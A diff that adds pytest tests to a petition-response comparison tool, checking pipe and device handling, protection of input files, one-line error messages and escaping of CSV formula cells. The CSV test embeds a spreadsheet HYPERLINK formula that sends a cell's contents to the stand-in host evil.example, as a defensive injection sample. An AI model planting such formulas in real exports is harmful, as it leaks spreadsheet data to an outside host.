@@ -9,6 +9,7 @@ reads (D6); alignment is bounded (D1.1); a case holds at most ``MAX_RESPONSES`` 
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import json
 import time
@@ -959,3 +960,87 @@ def test_a_due_date_past_the_calendar_is_no_due_date() -> None:
 
     found = find_due_dates(text, on=dt.date.max)
     assert found and all(d.due is None for d in found)
+
+
+def test_a_pipe_in_a_corpus_folder_is_skipped_not_waited_on(tmp_path: Path) -> None:
+    import os
+    import shutil
+
+    shutil.copy(FIXTURES / "petitions" / "300239.json", tmp_path / "300239.json")
+    os.mkfifo(tmp_path / "stream.jsonl")
+    os.mkfifo(tmp_path / "pipe.json")
+    start = time.perf_counter()
+    rs = rc.review_many(rc.load_corpus(tmp_path), progress=False)
+    assert time.perf_counter() - start < 60
+    assert len(rs.reviews) == 1
+    skipped = {Path(e.path).name: e.reason for e in rs.errors}
+    assert set(skipped) == {"stream.jsonl", "pipe.json"}
+    assert all("not a regular file" in r for r in skipped.values())
+
+
+def test_a_device_is_not_read_as_a_corpus() -> None:
+    dev = Path("/dev/zero")
+    if not dev.exists():
+        pytest.skip("no /dev/zero here")
+    rs = rc.review_many(rc.load_corpus(dev), progress=False)
+    assert not rs.reviews and rs.errors
+
+
+def test_corpus_never_overwrites_its_input(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import shutil
+
+    src = tmp_path / "300239.json"
+    shutil.copy(FIXTURES / "petitions" / "300239.json", src)
+    lines = tmp_path / "more.jsonl"
+    lines.write_text("", encoding="utf-8")
+    before = src.read_bytes()
+    for args in (
+        ["corpus", str(src), "--out", str(src)],
+        ["corpus", str(tmp_path), "--out", str(src)],
+        ["corpus", str(tmp_path), "--out", str(tmp_path / "r.csv"), "--errors", str(lines)],
+    ):
+        assert main(args) == 2
+        err = capsys.readouterr().err
+        assert "is one of the input files" in err and err.count("\n") == 1
+    assert src.read_bytes() == before
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    import csv
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    case = rc.Case(
+        petition=rc.Petition(action=evil, id=1),
+        responses=[rc.Response(text="@SUM(1+1) We will not do this.", summary="-1 for all")],
+    )
+    from respcompare.corpus_records import write_records
+
+    out = write_records(rc.review_many([case], progress=False), tmp_path / "r.csv")
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    cells = [v for row in rows for v in row.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"]
+    assert rows[0]["petition_action"] == "'" + evil
+
+
+def test_output_that_cannot_be_written_is_one_line(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import sys
+
+    monkeypatch.setattr(sys, "stdout", None)
+    assert main(["review", "--example", "grooming-gangs", "--summary"]) == 2
+    err = capsys.readouterr().err
+    assert "standard output is closed" in err and err.count("\n") == 1
+    full = Path("/dev/full")
+    if full.exists():
+        handle = full.open("w")
+        try:
+            monkeypatch.setattr(sys, "stdout", handle)
+            assert main(["review", "--example", "grooming-gangs", "--summary"]) == 1
+        finally:
+            with contextlib.suppress(OSError):
+                handle.close()
+        err = capsys.readouterr().err
+        assert "cannot write the output" in err and err.count("\n") == 1
